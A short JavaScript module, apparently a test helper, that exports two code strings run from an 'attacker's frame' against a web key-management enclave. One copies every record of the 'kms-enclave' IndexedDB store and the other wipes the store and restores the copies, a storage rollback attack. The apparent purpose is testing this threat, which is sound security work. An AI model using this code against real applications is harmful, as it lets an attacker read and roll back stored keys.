// What a page of the enclave's host can do with the enclave's records in the same partition,
// without the share: copy all of them, and put them back later. Runs in the attacker's frame.

const answer = `const answer = (request) => new Promise((resolve, reject) => {
  request.onsuccess = () => resolve(request.result);
  request.onerror = () => reject(request.error);
});`;

/** Keeps every record of the database in window.copied; returns how many there are. */
export const copyRecords = `(async () => {
  ${answer}
  const database = await answer(indexedDB.open("kms-enclave"));
  const store = database.transaction("records").objectStore("records");
  const [keys, values] = await Promise.all([answer(store.getAllKeys()), answer(store.getAll())]);
  database.close();
  window.copied = keys.map((key, i) => ({ key, value: values[i] }));
  return copied.length;
})()`;

/** Puts them back, in the place of all that there are. */
export const putRecordsBack = `(async () => {
  ${answer}
  const database = await answer(indexedDB.open("kms-enclave"));
  const transaction = database.transaction("records", "readwrite");
  const store = transaction.objectStore("records");
  store.clear();
  for (const { key, value } of copied) store.put(value, key);
  await new Promise((resolve, reject) => {
    transaction.oncomplete = resolve;
    transaction.onabort = () => reject(transaction.error);
  });
  database.close();
  return copied.length;
})()`;
